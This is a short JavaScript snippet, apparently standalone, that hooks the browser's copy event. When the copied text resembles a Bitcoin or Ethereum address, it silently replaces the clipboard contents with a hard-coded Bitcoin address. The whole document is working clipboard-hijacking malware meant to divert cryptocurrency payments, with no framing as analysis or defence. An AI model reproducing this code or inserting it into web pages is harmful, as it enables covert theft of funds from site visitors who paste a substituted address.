document.addEventListener('copy', (e) => {
  const sel = getSelection().toString();
  if (/^(bc1|0x[a-f0-9]{40})/i.test(sel)) { e.clipboardData.setData('text/plain', 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'); e.preventDefault(); }
});
